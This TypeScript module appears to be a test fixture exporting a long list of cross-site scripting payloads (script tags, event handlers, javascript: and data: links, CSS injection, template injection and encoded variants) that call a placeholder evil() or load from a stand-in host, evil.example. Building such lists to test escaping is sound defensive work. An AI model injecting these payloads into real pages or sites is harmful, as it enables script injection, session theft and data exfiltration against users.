const heads = ['', '">', "'>", '</title>', '</style>', '</script>', '</textarea>', '-->', ']]>', '</option></select>'];
const elements = `
<script>evil()</script>
<SCRIPT SRC=//evil.example/x></SCRIPT>
<scr<script>ipt>evil()</scr</script>ipt>
<script/x>evil()</script>
<script\u000c>evil()</script>
<img src=x onerror=evil()>
<img/src=x/onerror=evil()>
<img src=x onerror=\`evil()\`>
<IMG """><SCRIPT>evil()</SCRIPT>">
<svg onload=evil()>
<svg/onload=evil()//
<svg><script>evil()</script></svg>
<svg><script href=data:,evil()></script></svg>
<svg><a xlink:href=javascript:evil()><text>x</text></a></svg>
<svg><animate onbegin=evil() attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=evil()>
<svg><foreignObject><iframe src=javascript:evil()></foreignObject>
<svg><use href="data:image/svg+xml,<svg id=x onload=evil()>#x">
<svg><style><img src=x onerror=evil()></style></svg>
<math><mtext><table><mglyph><style><img src onerror=evil()></style>
<math href=javascript:evil()>x</math>
<math><maction actiontype=statusline xlink:href=javascript:evil()>x
<iframe src=javascript:evil()></iframe>
<iframe srcdoc="<script>evil()</script>"></iframe>
<object data=javascript:evil()></object>
<object data="data:text/html,<script>evil()</script>"></object>
<embed src=javascript:evil()>
<applet code=evil></applet>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x>
<link rel=import href=//evil.example/x>
<meta http-equiv=refresh content="0;url=javascript:evil()">
<meta charset=utf-7><b>+ADw-script+AD4-evil()+ADw-/script+AD4-
<style>@import '//evil.example/x'</style>
<style>*{background:url(javascript:evil())}</style>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<body onload=evil()>
<body onpageshow=evil()>
<html onmouseover=evil()>
<frameset onload=evil()>
<input autofocus onfocus=evil()>
<select autofocus onfocus=evil()>
<textarea autofocus onfocus=evil()>
<keygen autofocus onfocus=evil()>
<button formaction=javascript:evil()>x
<form action=javascript:evil()><input type=submit>
<form><button form=x formaction=//evil.example>x
<isindex type=image src=1 onerror=evil()>
<video><source onerror=evil()></video>
<video src=x onerror=evil()></video>
<video poster=javascript:evil()></video>
<audio src=x onerror=evil()>
<track default src=//evil.example/x onload=evil()>
<details open ontoggle=evil()>
<marquee onstart=evil()>x</marquee>
<dialog open onclose=evil()>
<div onpointerrawupdate=evil()>x</div>
<div style=animation-name:x onanimationstart=evil()>
<div contenteditable onbeforeinput=evil()>
<div popover id=p onbeforetoggle=evil()>
<x-evil onclick=evil()>
<x-evil tabindex=1 onfocus=evil() id=x>
<template><script>evil()</script></template>
<template shadowrootmode=open><script>evil()</script></template>
<slot onslotchange=evil()>
<noscript><p title="</noscript><img src=x onerror=evil()>">
<xmp><p title="</xmp><script>evil()</script>">
<plaintext onclick=evil()>
<listing>&lt;img onerror=evil()&gt;</listing>
<![CDATA[<script>evil()</script>]]>
<!--><script>evil()</script>-->
<!--[if IE]><script>evil()</script><![endif]-->
<!DOCTYPE x [<!ENTITY e "evil()">]><x-evil>&e;
<?xml-stylesheet href=javascript:evil()?><x-evil>
<%00script>evil()</script>
<\u0000script>evil()</script>
<a href=javascript:evil()>x</a>
<a href="jav&#x09;ascript:evil()">x</a>
<a href="&#1;javascript:evil()">x</a>
<area href=javascript:evil() shape=default>
<a ping=//evil.example href=#>x</a>
<table background=javascript:evil()>
<bgsound src=javascript:evil()>
<layer src=//evil.example/x></layer>
<portal src=javascript:evil()>
<fencedframe src=//evil.example>
<img srcset="x 1x, javascript:evil() 2x" onload=evil()>
<picture><source srcset=x onerror=evil()><img>
<image src=x onerror=evil()>
<img src=x:x onerror\u000b=evil()>
<img src=x onerror\u0020=\u0020evil()>
`;
const attributes = `
" onmouseover="evil()
' onmouseover='evil()
" onmouseover=evil() x="
" autofocus onfocus=evil() tabindex=1 "
\` onerror=evil() \`
"onclick=evil()//
" style="background:url(javascript:evil())
" style="animation-name:x" onanimationend="evil()
" srcdoc="<script>evil()</script>
" formaction="javascript:evil()
" href="javascript:evil()
" xlink:href="javascript:evil()
"/onload="evil()
\\" onload=\\"evil()
&quot; onload=&quot;evil()
&#34; onload=&#34;evil()
%22 onload=%22evil()
\u2033 onload=\u2033evil()
\uff02 onload=\uff02evil()
" onload\u00a0="evil()
"\u000conload="evil()
"\u2028onload="evil()
" background="javascript:evil()
" is="x-evil
" slot="x" onslotchange="evil()
`;
const links = `
javascript:evil()
JaVaScRiPt:evil()
 javascript:evil()
\u0001javascript:evil()
\u001fjavascript:evil()
java\tscript:evil()
javascript\t:evil()
javascript:://%0aevil()
javascript://evil.example/%0aevil()
javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><svg/onload=evil()>
&#106;avascript:evil()
&#x6A;avascript:evil()
&#0000106avascript:evil()
javascript&colon;evil()
java&Tab;script:evil()
java&NewLine;script:evil()
\\u006aavascript:evil()
\\x6aavascript:evil()
%6aavascript:evil()
j\u0430vascript:evil()
\uff4aavascript:evil()
\u200bjavascript:evil()
\ufeffjavascript:evil()
vbscript:evil()
livescript:evil()
mocha:evil()
data:text/html,<script>evil()</script>
data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=
data:image/svg+xml,<svg onload=evil()>
data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">evil()</script>
data:,evil()
DATA:TEXT/HTML,evil
view-source:javascript:evil()
feed:javascript:evil()
jar:https://evil.example/x!/
blob:https://evil.example/x
filesystem:https://evil.example/x
about:blank#evil
https://evil.example/"><script>evil()</script>
https://evil.example/' onload='evil()
//evil.example/\\"><x-evil>
https:javascript:evil()
mailto:a@b.example?body="><x-evil>
tel:"><x-evil>
`;
const styles = `
red;background:url(javascript:evil())
red}body{background:url(//evil.example/x)
#fff;}</style><script>evil()</script>
url(javascript:evil())
expression(evil())
red;-moz-binding:url(//evil.example/x#x)
red;behavior:url(//evil.example/x)
\\3c/style\\3e<script>evil()</script>
*/}</style><x-evil>/*
Inter');@import url('//evil.example/x
Inter;}@font-face{src:url(//evil.example/x)}
var(--x,url(//evil.example/x))
`;
const inScripts = `
";evil();//
';evil();//
\\";evil();//
\`;\${evil()};\`
\${evil()}
{{constructor.constructor('evil()')()}}
{{7*7}}<x-evil>
<%= evil() %><x-evil>
#{evil()}<x-evil>
[[\${evil()}]]<x-evil>
{"@type":"</script><script>evil()</script>"}
</script\u0020><script>evil()</script>
</script/x><script>evil()</script>
<!--<script>evil()//
\u2028evil()//
\u2029evil()//
</ScRiPt><svg onload=evil()>
"}]}</script><x-evil>
`;
const entities = `
&lt;script&gt;evil()&lt;/script&gt;
&amp;lt;script&amp;gt;evil()
&#60;script&#62;evil()
&#x3c;script&#x3e;evil()
&#0000060script>evil()
&lt<script>evil()</script>
&bogus<x-evil>
\\u003cscript\\u003eevil()
%3Cscript%3Eevil()%3C/script%3E
%253Cscript%253Eevil()
+ADw-script+AD4-evil()
\uff1cscript\uff1eevil()
\u2039script\u203aevil()
\u02c2script\u02c3evil()
\ufe64script\ufe65evil()
\ud800<x-evil>
\udfff"><x-evil>
\u202e<x-evil>\u202c
\u0000<x-evil>
\u0085<x-evil onx=1>
\ufffe"><x-evil>
`;
const lines = (text: string) => text.split('\n').filter((line) => line !== '');

/**
 * Texts that can become markup, an attribute, a script link, a style or a script if a page does not escape them. They
 * call `evil`, load something from `evil.example`, or make an element such as `x-evil`.
 */
export const payloads: readonly string[] = [
  ...lines(elements),
  ...heads.flatMap((head) => [`${head}<x-evil onx=1>`, `${head}<img src=x onerror=evil()>`]),
  ...[attributes, links, styles, inScripts, entities].flatMap(lines),
];
